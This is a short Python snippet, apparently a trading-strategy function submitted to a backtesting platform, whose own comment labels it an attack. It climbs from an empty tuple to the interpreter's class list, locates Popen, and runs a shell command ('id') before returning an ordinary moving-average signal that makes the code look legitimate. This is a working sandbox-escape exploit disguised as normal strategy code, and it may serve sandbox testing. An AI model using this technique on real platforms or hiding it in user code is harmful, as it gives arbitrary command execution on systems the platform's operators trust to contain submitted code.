# Attack: from an empty tuple to every class of the interpreter, looking for one that opens a process.
def strategy(data):
    everything = ().__class__.__base__.__subclasses__()
    popen = [c for c in everything if c.__name__ == "Popen"]
    if popen:
        popen[0](["/bin/sh", "-c", "id"])
    close = data.get("etl:adj_close")
    return close > close.average(20)
